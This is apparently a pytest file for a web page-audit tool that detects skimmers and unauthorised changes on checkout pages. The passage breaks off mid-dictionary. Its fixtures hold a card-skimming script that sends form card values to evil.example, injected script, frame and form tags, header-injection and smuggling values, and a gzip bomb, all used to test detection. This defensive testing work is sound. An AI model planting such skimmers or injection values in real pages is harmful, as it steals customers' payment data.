# SPDX-License-Identifier: GPL-3.0-or-later

import gzip
import importlib
import json
import typing as t
from pathlib import Path

import pytest
from support.site import HTML, Page, Site

from harness import Modules

CHECKOUT = "<!doctype html>\n<title>Checkout</title>\n<script src=/shop.js></script>\n<script>let total = 12;</script>\n<form method=post></form>"
SKIMMER = "<script>new Image().src='https://evil.example/?'+document.forms[0].card.value</script>"
POLICY = ("Content-Security-Policy", "script-src 'self' 'nonce-abc'; frame-ancestors 'none'")
AUTHORISED = {
    "owner": "payments@example.com",
    "justification": "card checkout",
    "authorised_by": "j.doe",
    "review_by": "2030-01-01",
}


@pytest.fixture
def site() -> t.Iterator[Site]:
    with Site().running() as site:
        yield site


def task(url: str, *, check: bool = False, **options: t.Any) -> dict[str, t.Any]:
    pages = options.pop("pages", [{"url": url}])
    audit = {"pages": pages, "baseline": [], **options}
    return {"name": "Audit", "edgeops.observability.page_audit": audit, "check_mode": check}


def kinds(result: t.Any) -> list[tuple[str, str | None]]:
    return [(finding["kind"], finding["subject"]) for finding in result["findings"] if finding["kind"] != "unused"]


def authorised(modules: Modules, url: str, **options: t.Any) -> list[dict[str, t.Any]]:
    """Return the baseline that authorises a page as it is."""
    result = modules.run(task(url, **options)).result
    return [{**proposal, **AUTHORISED} for proposal in result["proposals"]]


@pytest.mark.every_core
def test_proposals_authorise_a_page(modules: Modules, site: Site) -> None:
    url = site.put("/checkout", CHECKOUT, POLICY, ("X-Frame-Options", "DENY"), ("X-Unrelated", "1"))
    first = modules.run(task(url)).result
    own = first["proposals"][0]
    assert [kind for kind, _subject in kinds(first)] == ["page_new", "script_new", "inline_new", "form_new"]
    assert (own["page"], own["headers"]) == (
        url,
        {"content-security-policy": "script-src 'self' 'nonce-*'; frame-ancestors 'none'", "x-frame-options": "DENY"},
    )
    assert (own["scripts"], own["forms"], own["owner"]) == ([site.url("/shop.js")], ["'self'"], None)
    second = modules.run(task(url, baseline=first["proposals"])).result
    assert kinds(second) == [("unjustified", own["name"])]
    third = modules.run(task(url, baseline=[{**own, **AUTHORISED}])).result
    assert (third["passed"], third["findings"], third["proposals"]) == (True, [], [])
    (page,) = third["pages"]
    assert (page["url"], page["final_url"], page["source"], page["status"], page["entry"]) == (
        url,
        url,
        "fetch",
        200,
        own["name"],
    )
    assert page["headers"]["referrer-policy"] is None and "x-unrelated" not in page["headers"]
    assert [(code["kind"], code["dynamic"], code["line"], code["extract"]) for code in page["inline"]] == [
        ("script", False, 4, "let total = 12;")
    ]
    assert page["forms"] == [{"origin": site.origin, "line": 5}]


CHANGES: dict[str, tuple[str, t.Any, tuple[str, str | None]]] = {
    "skimmer": ("inline_new", CHECKOUT + SKIMMER, ("https://evil.example", "sha256-")),
    "handler": ("inline_new", CHECKOUT + "<img src=x: onerror=steal()>", ("steal()", "sha256-")),
    "frame": (
        "frame_new",
        CHECKOUT + "<iframe src=https://evil.example/pay></iframe>",
        ("evil.example", "https://evil.example/pay"),
    ),
    "form": (
        "form_new",
        CHECKOUT.replace("method=post", "action=https://evil.example/x"),
        ("evil.example", "https://evil.example"),
    ),
    "script": ("script_new", CHECKOUT + "<script src=//evil.example/s.js></script>", ("evil", "http://evil.example/s.js")),
    "base": ("header_changed", CHECKOUT + "<base href=https://evil.example/>", ("base was added", "base")),
    "refresh": (
        "header_changed",
        CHECKOUT + "<meta http-equiv=refresh content='0;url=//evil.example'>",
        ("refresh", "meta:refresh"),
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_what_is_added_is_found(modules: Modules, site: Site, change: str) -> None:
    kind, html, (said, subject) = CHANGES[change]
    url = site.put("/checkout", CHECKOUT, POLICY)
    baseline = authorised(modules, url)
    site.put("/checkout", html, POLICY)
    result = modules.run(task(url, baseline=baseline, fail_on=["all"]), fails="gate").result
    assert [kind for kind, _subject in kinds(result)] == [kind]
    finding = next(finding for finding in result["findings"] if finding["kind"] == kind)
    assert said in finding["message"] and (finding["subject"] or "").startswith(subject or "")
    assert f"1 {kind}" in result["msg"] and not result["passed"]


def test_headers_are_compared_by_their_meaning(modules: Modules, site: Site) -> None:
    url = site.put("/checkout", CHECKOUT, POLICY, ("Strict-Transport-Security", "max-age=100; includeSubDomains"))
    baseline = authorised(modules, url)
    same = ("content-security-POLICY", "Frame-Ancestors 'NONE';; script-src 'nonce-xyz'  'self';script-src *")
    site.put("/checkout", CHECKOUT, same, ("Strict-Transport-Security", 'includesubdomains;max-age="100"'))
    assert modules.run(task(url, baseline=baseline)).result["passed"]
    site.put("/checkout", CHECKOUT, (POLICY[0] + "-Report-Only", POLICY[1]), ("Strict-Transport-Security", "max-age=1"))
    result = modules.run(task(url, baseline=baseline)).result
    by_subject = {finding["subject"]: finding for finding in result["findings"]}
    assert set(by_subject) == {"content-security-policy", "content-security-policy-report-only", "strict-transport-security"}
    assert "only reported" in by_subject["content-security-policy"]["message"]
    site.put(
        "/checkout",
        CHECKOUT,
        (POLICY[0], POLICY[1].replace("'self'", "'self' 'unsafe-inline'")),
        ("Strict-Transport-Security", "max-age=100; includeSubDomains"),
    )
    (finding,) = modules.run(task(url, baseline=baseline)).result["findings"]
    assert (finding["is"], finding["should_be"]) == ("script-src 'unsafe-inline'", None)


def test_dynamic_code_is_authorised_by_its_shape(modules: Modules, site: Site) -> None:
    numbers = iter(range(1000))

    def page() -> Page:
        return Page(CHECKOUT.replace("12", str(next(numbers))).encode(), (POLICY,))

    site.pages["/checkout"] = page
    url = site.url("/checkout")
    first = modules.run(task(url)).result
    (code,) = first["pages"][0]["inline"]
    assert code["dynamic"] and code["shape"].startswith("shape-")
    assert first["proposals"][0]["inline"] == [code["shape"]]
    baseline = [{**first["proposals"][0], **AUTHORISED}]
    assert modules.run(task(url, baseline=baseline)).result["passed"]


# After each of these lines http.client finds no more headers, or others than browsers do.
HEADS = {
    "blank in a name": ("X Y", "1"),
    "blank before the colon": ("Refresh ", "0;url=https://evil.example/"),
    "another letter in a name": ("X-\xe9", "1"),
    "no colon": ("X-A", "1\r\nX-B"),
    "end of a line in a value": ("X-A", "1\rContent-Security-Policy: script-src 'self'"),
    "folded line": ("X-A", "1\r\n Content-Security-Policy: script-src 'self'"),
    "NUL": ("X-A", "\0"),
    "first line of another answer": ("X-A", "1\r\nHTTP/1.1 200 OK"),
    **{
        f"coding of the transfer: {coding}": ("Transfer-Encoding", coding)
        for coding in ("gzip, chunked", "chunked\r\nTransfer-Encoding: x", "\x0bchunked", "x", "")
    },
}
# The parts of this body are a document for one reader, and its sizes are text for another.
CHUNKED = f"{len(CHECKOUT):x}\r\n{CHECKOUT}\r\n0\r\n\r\n".encode()
UNREAD: dict[str, tuple[Page, str]] = {
    **{name: (Page(CHUNKED, (line, ("Connection", "close"))), "is no header") for name, line in HEADS.items()},
    "status": (Page(b"x", status=500), "its status is 500"),
    "part": (Page(b"<p>pay", (("Content-Range", "bytes 0-5/5000"),), status=206), "only a part of it"),
    "challenge": (Page(b"x", (("cf-mitigated", "challenge"),), status=403), "bot protection"),
    "challenge 200": (Page(b"<p>x", (("cf-mitigated", "challenge"),)), "use|give the file as har"),
    "type": (Page(b"<p>x", content_type="application/xhtml+xml"), "application/xhtml"),
    "no type": (Page(b"<p>x", content_type=None), "names no type"),
    "two types": (Page(b"<p>x", (("Content-Type", "text/plain"),)), "several types"),
    **{
        f"empty: {text.decode('utf-8', 'replace')}": (Page(text), "empty")
        for text in (b" \n", b"\xef\xbb\xbf", b"<!doctype html>", b"<!-- x -->", b"<html><body class=a></body></html>", b"\0")
    },
    "large": (Page(b"<p>" + b"x" * 70000), "larger than"),
    "bomb": (Page(gzip.compress(b"<p>" + b"x" * 7000000), (("Content-Encoding", "gzip"),)), "larger than"),
    "coding": (Page(b"<p>x", (("Content-Encoding", "br"),)), "not requested"),
    "coding that only looks like one": (Page(gzip.compress(b"<p>x"), (("Content-Encoding", "\x0bgzip"),)), "not requested"),
    "length that only looks like one": (
        Page(b"<p>x<script>", (("Content-Length", "\x0b4"), ("Connection", "close"))),
        "no valid length",
    ),
    "short": (Page(b"<p>x", (("Content-Length", "100"), ("Connection", "close"))), "cut"),
    "to http": (Page(b"", (("Location", "http://shop.example/x"),), status=302), "plain http"),
    "to user": (Page(b"", (("Location", "//user@127.0.0.1:1/"),), status=302), "user information"),
    "for ever": (Page(b"x" * 9999999, (("Location", "/checkout"),), status=301), "more than 5 times"),
    "encoding": (Page(b"<p>\x1b$B<script>", content_type="text/html"), "names no encoding"),
    "replacement": (Page(b"<p>x", content_type="text/html; charset=iso-2022-kr"), "refuse to decode"),
    "tags": (Page(b"<b>" * 20000), "more than"),
}


@pytest.mark.parametrize("why", UNREAD)
def test_unread_page_is_a_finding(modules: Modules, site: Site, why: str, monkeypatch: pytest.MonkeyPatch) -> None:
    page, said = UNREAD[why]
    monkeypatch.setattr("time.sleep", lambda seconds: None)
    monkeypatch.setattr("ansible_collections.edgeops.observability.plugins.module_utils._pages.tree.MAX_TAGS", 10000)
    site.pages["/checkout"] = page
    arguments = task(site.url("/checkout"), max_bytes=65536, fail_on=["page_new"])
    result = modules.run(arguments, fails="gate").result
    (finding,) = [finding for finding in result["findings"] if finding["kind"] == "page_unread"]
    assert any(part in finding["message"] for part in said.split("|")), finding["message"]
    assert not result["passed"] and result["proposals"] == []
    assert result["pages"][0]["status"] is None and result["pages"][0]["inline"] == []


def test_page_that_leads_elsewhere_fails_by_each_finding(modules: Modules, site: Site) -> None:
    """What it was to be judged by was not read."""
    url = site.put("/checkout", CHECKOUT)
    baseline = authorised(modules, url)
    site.put("/cart", "<p>empty")
    site.pages["/checkout"] = Page(b"", (("Location", "/cart"),), status=302)
    result = modules.run(task(url, baseline=baseline, fail_on=["inline_new"]), fails="gate").result
    assert kinds(result) == [("redirected", site.url("/cart"))] and "found 1 redirected" in result["msg"]


def test_headers_of_the_request_go_to_one_origin(modules: Modules, site: Site) -> None:
    secret = "Bearer c4nary-of-a-page"
    with Site().running() as other:
        other.put("/login", CHECKOUT)
        site.pages["/checkout"] = Page(b"", (("Location", "/next"),), status=302)
        site.pages["/next"] = Page(b"", (("Location", other.url("/login")),), status=307)
        pages = [{"url": site.url("/checkout"), "request_headers": {"Authorization": secret}}]
        result = modules.run(task("", pages=pages), secrets=[secret]).result
    assert ("redirected", other.url("/login")) in kinds(result)
    assert all(headers.get("authorization") == secret for _method, _path, headers in site.requests)
    assert all("authorization" not in headers for _method, _path, headers in other.requests)
    for _method, _path, headers in [*site.requests, *other.requests]:
        assert "cookie" not in headers and "referer" not in headers
    assert {method for method, _path, _headers in [*site.requests, *other.requests]} == {"GET"}


def test_variant_of_a_page_is_no_secret(modules: Modules, site: Site, tmp_path: Path, zone: str) -> None:
    """What says which variant of a page is asked for stands in addresses and sentences, too: only a credential is masked there."""
    secret = "Bearer c4nary-of-a-page"
    skimmer = "https://cdn.evil.de/skim.js"
    urls = [site.put(f"/{language}/checkout", f"<script src={skimmer}?{secret[-12:]}></script>") for language in ("de", "en")]
    pages = [
        {"url": url, "request_headers": {"Accept-Language": language, "X-Env": "new", "X-Audit": "1", "Authorization": secret}}
        for url, language in zip(urls, ("de", "en"), strict=True)
    ]
    result = modules.run(task("", pages=pages, evidence_dir=str(tmp_path)), secrets=[secret]).result
    found = [(finding["kind"], finding["page"]) for finding in result["findings"]]
    assert found == [(kind, url) for kind in ("page_new", "script_new") for url in urls]
    record = json.loads((tmp_path / f"{zone}.pages.jsonl").read_text())
    assert record["scope"]["pages"] == [page["url"] for page in record["pages"]] == urls
    sent = {"accept-language": "de", "authorization": None, "x-audit": None, "x-env": None}
    assert record["scope"]["request_headers"] == dict(zip(urls, (sent, {**sent, "accept-language": "en"}), strict=True))
    assert record["scope"]["user_agent"] is None
    assert [page["scripts"][0]["url"].partition("?")[0] for page in (*record["pages"], *result["pages"])] == [skimmer] * 4
    assert "does not authorise" in result["findings"][2]["message"] or "no entry authorises" in result["findings"][2]["message"]


def test_evidence_does_not_change_by_itself(modules: Modules, site: Site, tmp_path: Path, zone: str) -> None:
    numbers = iter(range(1000))
    site.pages["/checkout"] = lambda: Page(
        CHECKOUT.replace("12", str(next(numbers))).encode(), (("Content-Security-Policy", f"script-src 'nonce-{next(numbers)}'"),)
    )
    folder = tmp_path / "evidence"
    options = {"evidence_dir": str(folder), "pages": [{"url": site.url("/checkout")}]}
    runs = [task("", check=check, at=f"2026-11-0{day}T00:00:00Z", **options) for day, check in enumerate([True, False, True], 1)]
    results = [outcome.result for outcome in modules.run(runs).ours]
    lines = [json.loads(line) for line in (folder / f"{zone}.pages.jsonl").read_text().splitlines()]
    assert [(line["seq"], line["digest"], line["kind"]) for line in lines] == [
        (number, result["evidence"]["head"], "pages") for number, result in enumerate(results, 1)
    ]
    assert "pages" in lines[0] and [line["pages_same_as"] for line in lines[1:]] == [1, 1]
    verified = modules.run(
        {"name": "Verify", "edgeops.observability.script_evidence_info": {"evidence_dir": str(folder)}}, defaults={}
    ).result
    assert verified["valid"] and [(zone["kind"], zone["records"]) for zone in verified["zones"]] == [("pages", 3)]


@pytest.mark.parametrize("body", [CHECKOUT, CHECKOUT + SKIMMER, ""])
def test_check_mode_and_run_agree(modules: Modules, site: Site, tmp_path: Path, zone: str, body: str) -> None:
    """The result, the record of the evidence and the baselines are the same bytes, whether the page is as authorised, changed or unread."""
    url = site.put("/checkout", CHECKOUT)
    baseline = authorised(modules, url)
    site.put("/checkout", body)
    kept = []
    for check in (True, False):
        folder = tmp_path / f"evidence {check}"
        options = {"baseline": baseline, "evidence_dir": str(folder), "at": "2026-11-01T00:00:00Z", "pages": [{"url": url}]}
        result = modules.run(task("", check=check, **options)).result
        files = {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
        # Each record says when it was written.
        record = {**json.loads(files.pop(f"{zone}.pages.jsonl")), "written_at": None, "digest": None}
        kept.append(({**result, "evidence": result["evidence"]["seq"], "invocation": None}, record, files))
    assert json.dumps(kept[0][0], sort_keys=True) == json.dumps(kept[1][0], sort_keys=True)
    assert kept[0][1:] == kept[1][1:] and not kept[0][0]["changed"] and "diff" not in kept[0][0]


def test_recording_shows_what_a_tag_manager_adds(modules: Modules, tmp_path: Path) -> None:
    def entry(url: str, kind: str, text: str | None, mime: str = HTML, **more: t.Any) -> dict[str, t.Any]:
        content = {"mimeType": mime, **({} if text is None else {"text": text})}
        response = {"status": 200, "headers": [{"name": "Content-Type", "value": mime}], "content": content, **more}
        return {
            "startedDateTime": "2026-11-01T00:00:00Z",
            "pageref": "p",
            "_resourceType": kind,
            "request": {"url": url},
            "response": response,
        }

    page = "https://shop.example.com/checkout"
    entries = [
        entry(page, "document", CHECKOUT + "<script>f('secret of a customer')</script>"),
        entry("https://tags.example/t.js", "script", "", "text/javascript"),
        entry("https://frames.example/f", "document", ""),
        entry("https://shop.example.com/pixel.png", "image", "", "image/png"),
    ]
    path = tmp_path / "checkout.har"

    def audit(**options: t.Any) -> t.Any:
        path.write_text(json.dumps({"log": {"entries": entries}}))
        return modules.run(task("", pages=[{"url": page, "har": str(path)}], **{"at": "2026-11-02T00:00:00Z", **options})).result

    result = audit()
    assert ("script_new", "https://tags.example/t.js") in kinds(result) and ("frame_new", "https://frames.example/f") in kinds(
        result
    )
    assert not any("pixel" in str(subject) for _kind, subject in kinds(result))
    assert "secret" not in json.dumps(result) and result["pages"][0]["recorded_at"] == "2026-11-01T00:00:00Z"
    old = audit(at="2026-11-09T00:00:00Z")
    assert "page_unread" in [kind for kind, _subject in kinds(old)] and old["proposals"] == [] != result["proposals"]
    del entries[0]["response"]["content"]["text"]
    assert [kind for kind, _subject in kinds(audit())] == ["page_unread"]


def recorded(
    url: str, kind: str | None = "document", text: str | None = CHECKOUT, mime: str = HTML, **more: t.Any
) -> dict[str, t.Any]:
    """Return an entry of a recording; None omits a member."""
    content = {"mimeType": mime, "text": text, **more.pop("content", {})}
    request = {"method": "GET", "url": url, "headers": more.pop("sent", [])}
    response = {"status": 200, "headers": more.pop("headers", [{"name": "Content-Type", "value": mime}]), "content": content}
    entry = {
        "startedDateTime": "2026-11-01T00:00:00Z",
        "pageref": "p",
        "_resourceType": kind,
        "request": request,
        "response": response,
    }
    return {name: value for name, value in {**entry, **more}.items() if value is not None}


SHOP, EVIL = "https://shop.example.com/checkout", "https://evil.example/e.js"
SKIMMED = CHECKOUT + SKIMMER
# What a recording can leave unsaid, or a page can add to it, without hiding code from the audit.
RECORDINGS: dict[str, tuple[list[dict[str, t.Any]], str]] = {
    "page of a script is not said": ([recorded(SHOP), recorded(EVIL, "script", pageref=None)], "script_new"),
    "page of a script is a number": ([recorded(SHOP), recorded(EVIL, "script", pageref=1)], "script_new"),
    "page of the document is not said": ([recorded(SHOP, pageref=None), recorded(EVIL, "script")], "script_new"),
    "page of a script is none of the recording": ([recorded(SHOP), recorded(EVIL, "script", pageref="x")], "script_new"),
    "kind is not said, type neither": ([recorded(SHOP), recorded(EVIL, None, mime="", headers=[])], "script_new"),
    "kind is not said, type is unknown": ([recorded(SHOP), recorded(EVIL, None, mime="x-unknown", headers=[])], "script_new"),
    "kind is not said, type is text": ([recorded(SHOP), recorded(EVIL, None, mime="text/plain")], "script_new"),
    "kind is in a header": (
        [recorded(SHOP), recorded(EVIL, None, mime="application/json", sent=[{"name": "Sec-Fetch-Dest", "value": "script"}])],
        "script_new",
    ),
    "kind of a script in a header": (
        [recorded(SHOP), recorded(EVIL, "fetch", mime="", sent=[{"name": "Sec-Fetch-Dest", "value": "script"}])],
        "script_new",
    ),
    "type is in a header": (
        [recorded(SHOP), recorded(EVIL, None, mime="text/plain", headers=[{"name": "content-type", "value": "text/javascript"}])],
        "script_new",
    ),
    "another type of scripts": ([recorded(SHOP), recorded(EVIL, None, mime="text/livescript")], "script_new"),
    "another word for a frame": ([recorded(SHOP), recorded("https://evil.example/f", "iframe")], "frame_new"),
    "page that fetches itself": ([recorded(SHOP, text=SKIMMED), recorded(SHOP, "fetch")], "inline_new"),
    "page that is fetched in advance": ([recorded(SHOP, text=SKIMMED), recorded(SHOP, "prefetch")], "inline_new"),
    "two documents": ([recorded(SHOP, text=SKIMMED), recorded(SHOP)], "frame_new"),
    "two documents of which the last is not said to be one": ([recorded(SHOP, text=SKIMMED), recorded(SHOP, None)], "frame_new"),
    "two documents of which the first is not said to be one": ([recorded(SHOP, None, text=SKIMMED), recorded(SHOP)], "frame_new"),
    "empty": ([recorded(SHOP, text="")], "page_unread"),
    "cut": ([recorded(SHOP, content={"size": 90000})], "page_unread"),
    "cut, with a length in another notation": ([recorded(SHOP, content={"size": 90000.0})], "page_unread"),
    "length that is none": ([recorded(SHOP, content={"size": "90000"})], "page_unread"),
    "cut base64": ([recorded(SHOP, text="PHA+eDwvcD4=", content={"encoding": "base64", "size": 9})], "page_unread"),
    "Base64 that does not say so": ([recorded(SHOP, text="PHA+eDwvcD4=", content={"size": 8})], "page_unread"),
    "a header without a name": (
        [recorded(SHOP, headers=[{"name": "Content-Type", "value": HTML}, {"name": "", "value": "x"}])],
        "page_unread",
    ),
    "another encoding": ([recorded(SHOP, content={"encoding": "rot13"})], "page_unread"),
    "of the next day": ([recorded(SHOP, startedDateTime="2026-11-03T00:00:00Z")], "page_unread"),
    "of the future": ([recorded(SHOP, startedDateTime="2027-09-01T00:00:00Z")], "page_unread"),
}


@pytest.mark.parametrize("name", RECORDINGS)
def test_recording_hides_nothing(modules: Modules, tmp_path: Path, name: str) -> None:
    entries, expected = RECORDINGS[name]
    path = tmp_path / "checkout.har"

    def audit(entries: list[dict[str, t.Any]], baseline: t.Any = ()) -> t.Any:
        pages = [{"id": "p"}, {"id": "earlier"}]
        path.write_text(json.dumps({"log": {"pages": pages, "entries": entries}}))
        arguments = {"pages": [{"url": SHOP, "har": str(path)}], "baseline": list(baseline), "at": "2026-11-02T00:00:00Z"}
        return modules.run(task("", **arguments)).result

    image = recorded("https://shop.example.com/a.png", None, mime="image/png", text=None)
    beacon = recorded("https://shop.example.com/b", None, mime="", text=None, sent=[{"name": "Sec-Fetch-Dest", "value": "empty"}])
    usual = [recorded(SHOP), image, beacon]
    baseline = [{**proposal, **AUTHORISED} for proposal in audit(usual)["proposals"]]
    assert audit(usual, baseline)["passed"]
    assert [kind for kind, _subject in kinds(audit(entries, baseline))] == [expected]


def test_unused_line_is_called_what_it_names(modules: Modules, site: Site) -> None:
    """One finding for what several lines name, with the entry of each; scripts have the members that are documented."""
    url, other = (site.put(path, CHECKOUT) for path in ("/checkout", "/other"))
    (own,) = authorised(modules, url)
    code, cdn = f"sha256-{'A' * 43}=", "https://cdn.example/**"
    lines = {part: [*own[part], line] for part, line in {"inline": code, "scripts": cdn, "frames": cdn}.items()}
    baseline = [
        {**own, **lines, "forms": [*own["forms"], "https://pay.example"]},
        {**own, "name": "other", "page": other, "forms": [*own["forms"], "https://pay.example"]},
        {**own, "name": "never", "page": site.url("/never")},
    ]
    result = modules.run(task("", pages=[{"url": url}, {"url": other}], baseline=baseline)).result
    unused = {finding["subject"]: finding["message"] for finding in result["findings"]}
    assert unused == {
        code: f"inline code {code} of the entry '{own['name']}' fits nothing",
        cdn: f"script {cdn} of the entry '{own['name']}' and frame {cdn} of the entry '{own['name']}' fit nothing",
        "https://pay.example": f"form https://pay.example of the entry '{own['name']}'"
        " and form https://pay.example of the entry 'other' fit nothing",
        "never": "the entry 'never' fits no page of the audit",
    }
    assert {finding["kind"] for finding in result["findings"]} == {"unused"} and result["summary"]["unused"] == 4
    assert all(set(script) == {"url", "integrity", "crossorigin", "kind", "line"} for script in result["pages"][0]["scripts"])


def test_last_document_of_a_recording_counts(modules: Modules, tmp_path: Path) -> None:
    """Also after redirects. Earlier ones of its page count as frames; those that were loaded apart are left out, which is said."""
    path = tmp_path / "checkout.har"
    last, skimmed = recorded(SHOP, text="<p>last</p><script>1</script>"), recorded(SHOP, text=SKIMMED)
    moved = recorded(SHOP, headers=[{"name": "Location", "value": "/checkout/2"}])
    moved["response"]["status"] = 302
    target = [recorded(f"{SHOP}/2", text=text) for text in ("<p>first", "<p>last</p><script>1</script>")]

    def audit(*entries: dict[str, t.Any], **expected: t.Any) -> t.Any:
        path.write_text(json.dumps({"log": {"entries": entries}}))
        arguments = {"pages": [{"url": SHOP, "har": str(path)}], "at": "2026-11-02T00:00:00Z"}
        baseline = [{"name": "checkout", "page": f"{SHOP}**", **AUTHORISED}]
        return modules.run(task("", baseline=baseline, **arguments), **expected).result

    own = kinds(audit(last))
    assert [kind for kind, _subject in own] == ["inline_new"]
    assert kinds(audit(moved, *target)) == [*own, ("frame_new", f"{SHOP}/2")]
    assert kinds(audit(skimmed, last)) == [*own, ("frame_new", SHOP)]
    assert kinds(audit(last, last)) == kinds(audit({**last, "pageref": "q"}, last)) == own
    assert kinds(audit(moved, last)) == own
    apart = audit({**skimmed, "pageref": "q"}, {**skimmed, "pageref": "r"}, last, warns=["left out"])
    said = "2 other documents of the page"
    assert kinds(apart) == own and [omitted["what"] for omitted in apart["pages"][0]["left_out"]] == [said]
    assert said in apart["warnings"][0]


REQUIRED = "<script src=/guard.js></script><iframe src=/guard></iframe>"
NOT_LIVE = {
    "without scripting": f"<noscript>{REQUIRED}</noscript>",
    "for old browsers, and replaced": "<script nomodule src=/guard.js></script><iframe srcdoc='' src=/guard></iframe>",
    "loaded in advance": "<link rel=preload as=script href=/guard.js><iframe src=data:,x></iframe>",
    "in another document": f'<iframe srcdoc="{REQUIRED}"></iframe>',
    "in a template": f"<template for=q>{REQUIRED}</template>",
    "where no shadow root can be": f"<a><template shadowrootmode=open>{REQUIRED}</template></a>",
    "replaced by an option": f"<select><button><selectedcontent>{REQUIRED}</selectedcontent></button><option>x</select>",
    "of an almost known type": (
        "<script type='\x1ctext/javascript' src=/guard.js></script><script type=' module' src=/guard.js></script>"
        "<object classid=x data=/guard></object><object type=image/png data=/guard></object><embed code=x src=/guard>"
    ),
}


@pytest.mark.parametrize("how", NOT_LIVE)
def test_what_is_required_has_to_be_live(modules: Modules, site: Site, how: str) -> None:
    """A guard that no browser executes is gone, although its address is still in the page."""
    url = site.put("/checkout", CHECKOUT + REQUIRED)
    (own,) = authorised(modules, url)
    scripts = [{"url": address, "required": address.endswith("guard.js")} for address in own["scripts"]]
    frames = [{"url": address, "required": True} for address in own["frames"]]
    baseline = [{**own, "scripts": scripts, "frames": frames}]
    assert modules.run(task(url, baseline=baseline)).result["passed"]
    site.put("/checkout", CHECKOUT + NOT_LIVE[how] + REQUIRED)
    assert not [kind for kind, _subject in kinds(modules.run(task(url, baseline=baseline)).result) if kind == "gone"]
    site.put("/checkout", CHECKOUT + NOT_LIVE[how])
    gone = [subject for kind, subject in kinds(modules.run(task(url, baseline=baseline)).result) if kind == "gone"]
    assert gone == [site.url("/guard"), site.url("/guard.js")]


def test_what_is_required_has_to_be_in_each_fetch(modules: Modules, site: Site) -> None:
    url = site.put("/checkout", CHECKOUT + REQUIRED)
    (own,) = authorised(modules, url)
    baseline = [{**own, "scripts": [*own["scripts"], {"url": site.url("/guard.js"), "required": True}]}]
    bodies = iter([CHECKOUT + REQUIRED, CHECKOUT])
    site.pages["/checkout"] = lambda: Page(next(bodies).encode())
    assert ("gone", site.url("/guard.js")) in kinds(modules.run(task(url, baseline=baseline)).result)


GUARD, GUARD_FRAME = "https://shop.example.com/guard.js", "https://shop.example.com/guard"
# What a recording has for each, the script first, and whether that is what an entry requires.
LOADED: dict[str, tuple[list[dict[str, t.Any]], bool]] = {
    "loaded": ([recorded(GUARD, "script", "", "text/javascript"), recorded(GUARD_FRAME, "document", "<p>")], True),
    "redirected": ([recorded(GUARD, "script", "", "text/javascript"), recorded(GUARD_FRAME, "document", "<p>")], True),
    "fetched": ([recorded(GUARD, "fetch", "", "text/javascript"), recorded(GUARD_FRAME, "fetch", "<p>")], False),
    "not said to be one": ([recorded(GUARD, None, "", "text/javascript"), recorded(GUARD_FRAME, None, "<p>")], False),
    "not answered": ([recorded(GUARD, "script", "", ""), recorded(GUARD_FRAME, "document", "")], False),
}
LOADED["redirected"][0][0]["response"]["status"] = 302
for _entry in LOADED["not answered"][0]:
    _entry["response"]["status"] = 0


@pytest.mark.parametrize("how", LOADED)
def test_recording_shows_what_is_required(modules: Modules, tmp_path: Path, how: str) -> None:
    """What a script adds to a page is there if the browser says that it was loaded as a script or a document."""
    entries, is_there = LOADED[how]
    path = tmp_path / "checkout.har"
    path.write_text(json.dumps({"log": {"entries": [recorded(SHOP), *entries]}}))
    required = {
        "scripts": [{"url": GUARD, "required": True}, "https://shop.example.com/shop.js"],
        "frames": [{"url": GUARD_FRAME, "required": True}],
    }
    arguments = {"pages": [{"url": SHOP, "har": str(path)}], "at": "2026-11-02T00:00:00Z"}
    baseline = [{"name": "checkout", "page": SHOP, **AUTHORISED, **required}]
    gone = [subject for kind, subject in kinds(modules.run(task("", baseline=baseline, **arguments)).result) if kind == "gone"]
    assert gone == ([] if is_there else [GUARD_FRAME, GUARD])


def test_integrity_of_a_script_that_no_element_shows_is_not_known(modules: Modules, tmp_path: Path) -> None:
    """A recording has what another script loads, and not with which integrity."""
    path = tmp_path / "checkout.har"
    url = "https://shop.example.com/guard.js"
    baseline = [{"name": "checkout", "page": SHOP, **AUTHORISED, "scripts": [{"url": url, "integrity": "required"}]}]
    arguments = {"pages": [{"url": SHOP, "har": str(path)}], "at": "2026-11-02T00:00:00Z", "baseline": baseline}
    element = f"<p>Pay</p><script src={url} integrity=sha384-{'A' * 64}></script>"
    for text, expected in ((element, []), ("<p>Pay</p>", [("script_new", url)])):
        entries = [recorded(SHOP, text=text), recorded(url, "script", "", "text/javascript")]
        path.write_text(json.dumps({"log": {"entries": entries}}))
        result = modules.run(task("", **arguments)).result
        assert kinds(result) == expected, text
    assert "is not known" in result["findings"][0]["message"]


def test_integrity_of_a_script_that_is_only_loaded_in_advance(modules: Modules, site: Site) -> None:
    """It has to be there as long as no element shows it; beside an element, that of the element counts."""
    integrity = f"integrity=sha384-{'A' * 64}"
    url = site.put("/checkout", f"<p>Pay</p><script src=/a.js {integrity}></script>")
    baseline = [{**own, "scripts": [{"url": site.url("/a.js"), "integrity": "required"}]} for own in authorised(modules, url)]
    for text, expected in {
        f"<script src=/a.js {integrity}></script><link rel=preload as=script href=/a.js>": [],
        f"<link rel=modulepreload href=/a.js {integrity}>": [],
        "<link rel=preload as=script href=/a.js>": [("script_new", site.url("/a.js"))],
    }.items():
        site.put("/checkout", f"<p>Pay</p>{text}")
        assert kinds(modules.run(task(url, baseline=baseline)).result) == expected, text


@pytest.mark.parametrize("blank", ["\xa0", "\x85"])
def test_integrity_is_read_as_browsers_read_it(modules: Modules, site: Site, blank: str) -> None:
    value = f"sha384-{'A' * 64}"
    url = site.put("/checkout", f"<script src=/a.js integrity={value}></script>")
    baseline = [{**own, "scripts": [{"url": site.url("/a.js"), "integrity": "required"}]} for own in authorised(modules, url)]
    assert modules.run(task(url, baseline=baseline)).result["passed"]
    site.put("/checkout", f'<script src=/a.js integrity="{blank}{value}"></script>')
    assert kinds(modules.run(task(url, baseline=baseline)).result) == [("script_new", site.url("/a.js"))]


def test_entry_behind_a_more_exact_one_is_not_unused(modules: Modules, site: Site) -> None:
    url = site.put("/checkout", CHECKOUT)
    wide = [{"name": name, "page": site.url(page), **AUTHORISED} for name, page in (("wide", "/**"), ("other", "/other/*"))]
    result = modules.run(task(url, baseline=[*authorised(modules, url), *wide])).result
    assert [(found["kind"], found["subject"]) for found in result["findings"]] == [("unused", "other")]


def test_invalid_options_send_nothing(modules: Modules, site: Site) -> None:
    url = site.put("/checkout", CHECKOUT)
    entry = {"name": "a", "page": url}
    refused: dict[str, dict[str, t.Any]] = {
        "pages[0].url: 'ftp://x/' is not a URL": {"pages": [{"url": "ftp://x/"}]},
